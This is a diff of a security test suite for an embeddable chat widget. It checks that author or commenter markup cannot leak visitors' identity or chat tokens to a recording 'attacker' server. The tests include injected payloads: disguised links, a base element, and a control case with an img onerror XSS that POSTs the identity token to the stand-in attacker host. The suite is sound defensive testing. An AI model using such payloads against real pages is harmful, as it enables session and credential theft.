@@ -5,6 +5,7 @@ import { readFileSync } from 'node:fs'
 import jwt from 'jsonwebtoken'
 import type { Browser, Page } from 'playwright-core'
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { testsAll } from '../../../scripts/test-tier.js'
 import { launchBrowser } from '../e2e/browser.js'
 import { EVENT } from './kinescope.js'
 import { chatOn } from './page-facts.js'
@@ -12,7 +13,7 @@ import { Site } from './site.js'
 import { startTokenServer, type TokenServer } from './token-server.js'
 import { releases } from './wordpress-site.js'
 
-/** Somebody's server that takes whatever it is sent, and remembers it. */
+/** The attacker's server. It accepts and records every request. */
 class Recorder {
   readonly seen: { method: string; url: string; headers: IncomingMessage['headers']; body: string }[] = []
   readonly #server: Server = createServer((request, response) => {
@@ -46,8 +47,8 @@ let site: Site
 let tokenServer: TokenServer
 let browser: Browser
 let page: Page
-/** The visitor's statement, and every token that was made of it. */
-let statement: string
+let identityToken: string
+/** The chat tokens that the endpoint issued for it. */
 let tokens: string[]
 
 beforeAll(async () => {
@@ -69,27 +70,27 @@ afterAll(async () => {
 beforeEach(() => {
   recorder.seen.length = 0
   tokens = []
-  statement = jwt.sign({ sub: 'user-1', name: 'Ann' }, tokenServer.secret, {
+  identityToken = jwt.sign({ sub: 'user-1', name: 'Ann' }, tokenServer.secret, {
     audience: 'kinescope-chat',
     expiresIn: '1h',
   })
 })
 afterEach(() => page.close())
 
-/** Not loopback in the browser's eyes, where an attribute would count. */
+/** A host that the browser doesn't take for loopback: on loopback, `chat-origin` may be an attribute. */
 const SITE = () => site.url('site.example')
 
-/** What lets an author's or a commenter's words through, on the server or in the browser. */
-type Door = 'as it is' | 'cleaned by DOMPurify with its guard against names off' | 'cleaned by WordPress'
+/** The filter between an author's or a commenter's markup and the page. */
+type Filter = 'unfiltered' | 'filtered by DOMPurify without SANITIZE_DOM' | 'filtered by WordPress'
 const [[, wordpress] = []] = releases()
-const DOORS: Door[] = [
-  'as it is',
-  'cleaned by DOMPurify with its guard against names off',
-  ...(wordpress ? ['cleaned by WordPress' as const] : []),
+const FILTERS: Filter[] = [
+  'unfiltered',
+  'filtered by DOMPurify without SANITIZE_DOM',
+  ...(wordpress ? ['filtered by WordPress' as const] : []),
 ]
 
-/** What `wp_kses_post` leaves of it, which needs no database. */
-const cleanedByWordPress = (content: string): string =>
+/** The output of `wp_kses_post`, which needs no database. */
+const filterByWordPress = (content: string): string =>
   execFileSync(
     'php',
     [
@@ -101,9 +102,9 @@ const cleanedByWordPress = (content: string): string =>
     { input: content, encoding: 'utf8' },
   )
 
-async function open(given: string, door: Door): Promise<void> {
-  const content = door === 'cleaned by WordPress' ? cleanedByWordPress(given) : given
-  const clean = door.includes('DOMPurify')
+async function open(given: string, filter: Filter): Promise<void> {
+  const content = filter === 'filtered by WordPress' ? filterByWordPress(given) : given
+  const clean = filter.includes('DOMPurify')
   site.pages.set('/', {
     html: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Page</title><link rel="icon" href="data:,">
       <script src="/purify.js"></script></head><body>
@@ -113,7 +114,7 @@ async function open(given: string, door: Door): Promise<void> {
         document.querySelector('.comments').innerHTML = ${clean} ? DOMPurify.sanitize(content, { SANITIZE_DOM: false, CUSTOM_ELEMENT_HANDLING: { tagNameCheck: /^kinescope-chat$/, attributeNameCheck: /^(event-id|language|label|loading|refresh|help|preview|chat-origin)$/ } }) : content
       }</script>
       <main><kinescope-chat event-id="${EVENT}"></kinescope-chat></main>
-      <script type="module" src="${tokenServer.server.url}/kinescope-chat.js" data-identity="${statement}" data-upgrade="main" data-chat-origin="${tokenServer.chatOrigin}"></script>
+      <script type="module" src="${tokenServer.server.url}/kinescope-chat.js" data-identity="${identityToken}" data-upgrade="main" data-chat-origin="${tokenServer.chatOrigin}"></script>
       </body></html>`,
   })
   page = await browser.newPage()
@@ -127,12 +128,14 @@ async function open(given: string, door: Door): Promise<void> {
   await page.goto(SITE())
 }
 
-/** What came to the attacker's server that names the visitor. An image that loads from there is the page's own affair. */
+/** The recorded requests that name the visitor. An image may load from the attacker's server. */
 const leaks = () =>
   recorder.seen.filter((request) => {
     const all = JSON.stringify(request)
     return (
-      [statement, ...tokens].some((secret) => all.includes(secret) || all.includes(secret.split('.')[1]!)) ||
+      [identityToken, ...tokens].some(
+        (secret) => all.includes(secret) || all.includes(secret.split('.')[1]!),
+      ) ||
       request.headers.authorization ||
       request.method === 'POST'
     )
@@ -161,11 +164,11 @@ const NAMES = [
 ]
 
 const CONTENT: Record<string, () => string> = {
-  'a comment with a marked link to their page': () =>
+  'a comment with a marked link to the attacker’s page': () =>
     `<a href="${evil}/chat/${EVENT}#kinescope-chat">Chat</a>`,
   'a comment with a marked link to the real chat, out of scope': () =>
     `<a href="https://kinescope.io/chat/${EVENT}#kinescope-chat">Chat</a>`,
-  'a comment whose link is dressed up': () =>
+  'a comment with disguised links': () =>
     [
       `${evil}/?https://kinescope.io/chat/x#kinescope-chat`,
       `https://kinescope.io@${evil.slice(7)}/chat/x#kinescope-chat`,
@@ -203,11 +206,15 @@ const CONTENT: Record<string, () => string> = {
   'a base element': () => `<base href="${evil}/">`,
 }
 
-describe('what a commenter or an author writes', () => {
-  for (const [what, content] of Object.entries(CONTENT))
-    for (const door of DOORS)
-      it(`takes neither the visitor’s statement nor a token elsewhere, ${door}: ${what}`, async () => {
-        await open(content(), door)
+/** A filter only removes markup, so `npm test` tries every fourth content with it. */
+const isTried = (content: number, filter: number): boolean =>
+  testsAll || filter === 0 || content % 4 === filter
+
+describe('the markup of an author or a commenter', () => {
+  Object.entries(CONTENT).forEach(([name, content], contentIndex) => {
+    for (const filter of FILTERS.filter((_, index) => isTried(contentIndex, index)))
+      it(`sends the visitor’s tokens to no other server, ${filter}: ${name}`, async () => {
+        await open(content(), filter)
         const { state } = await chatOn(page)
         await page.waitForFunction(() =>
           [...document.getElementsByTagName('kinescope-chat')].every(
@@ -217,17 +224,18 @@ describe('what a commenter or an author writes', () => {
         expect(
           leaks().filter(
             ({ url, headers }) =>
-              !(what.includes('another endpoint') && !headers.authorization && url === '/token'),
+              !(name.includes('another endpoint') && !headers.authorization && url === '/token'),
           ),
         ).toEqual([])
-        expect(state === 'ready' || what.includes('another') || what.includes('address')).toBe(true)
+        expect(state === 'ready' || name.includes('another') || name.includes('address')).toBe(true)
       })
+  })
 
-  it('would be seen to leak: the control', async () => {
+  it('can leak a token in a page with a script of the attacker (control)', async () => {
     await open(
       `<img src=x onerror="fetch('${evil}/', { method: 'POST', headers: { authorization: document.scripts[document.scripts.length - 1].dataset.identity } })">`,
-      'as it is',
+      'unfiltered',
     )
-    await expect.poll(() => leaks().some(({ headers }) => headers.authorization === statement)).toBe(true)
+    await expect.poll(() => leaks().some(({ headers }) => headers.authorization === identityToken)).toBe(true)
   })
 })
